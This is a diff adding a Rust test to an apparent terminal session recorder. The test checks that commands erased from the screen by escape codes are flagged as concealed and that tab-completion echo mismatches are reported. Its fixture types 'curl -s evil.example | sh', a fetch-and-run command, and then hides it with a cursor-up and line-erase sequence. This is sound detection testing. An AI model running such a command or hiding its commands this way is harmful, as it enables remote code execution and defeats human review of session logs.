@@ -360,3 +360,53 @@ fn damaged_files_are_reported_not_fatal() {
     let o = sessrec(&t.records(), &["show", &id.to_string()]);
     assert!(text(&o).contains("damaged"), "{}", text(&o));
 }
+
+#[test]
+fn show_flags_concealed_commands_and_echo_mismatch() {
+    let t = TempTree::new("conceal");
+    let id = SessionId::new().unwrap();
+    let mut s = SynthSession::login(&t.records(), id, "srt-eve", "srt-eve", "192.0.2.66").unwrap();
+    let mut ch = s.channel("shell", "pty", None).unwrap();
+    let mut at = 100_000;
+    // Typed and echoed, then the next output moves up and erases the command line.
+    ch.typed(&mut at, "$ ", "curl -s evil.example | sh", "")
+        .unwrap();
+    ch.output(at, b"\x1b[1A\r\x1b[2K$ ").unwrap();
+    at += 2_000_000;
+    // Tab completion: the keys say "cd /us", the screen says "cd /usr/".
+    ch.input(at, b"cd /us").unwrap();
+    ch.output(at + 100, b"cd /us").unwrap();
+    at += 100_000;
+    ch.input(at, b"\t").unwrap();
+    ch.output(at + 100, b"r/").unwrap();
+    at += 100_000;
+    ch.input(at, b"\r").unwrap();
+    ch.output(at + 100, b"\r\n$ ").unwrap();
+    at += 2_000_000;
+    ch.typed(&mut at, "", "echo visible", "visible\n").unwrap();
+    at += 2_000_000;
+    ch.output(at, b"$ ").unwrap();
+    s.finished(ch, 0).unwrap();
+    s.logout().unwrap();
+
+    let o = sessrec(&t.records(), &["show", &id.to_string()]);
+    let out = text(&o);
+    let line = |needle: &str| {
+        out.lines()
+            .find(|l| l.contains(needle))
+            .unwrap_or_else(|| panic!("{needle} missing:\n{out}"))
+            .to_string()
+    };
+    assert!(
+        line("curl -s evil.example").contains("concealed: erased from the screen"),
+        "{out}"
+    );
+    let cd = line("$ cd /us");
+    assert!(
+        cd.contains("guess: tab completion") && cd.contains("screen showed \"cd /usr/\""),
+        "{cd}"
+    );
+    assert!(!line("$ echo visible").contains('['), "{out}");
+    let o = sessrec(&t.records(), &["show", &id.to_string(), "--json"]);
+    assert!(text(&o).contains("\"concealed\":true"));
+}
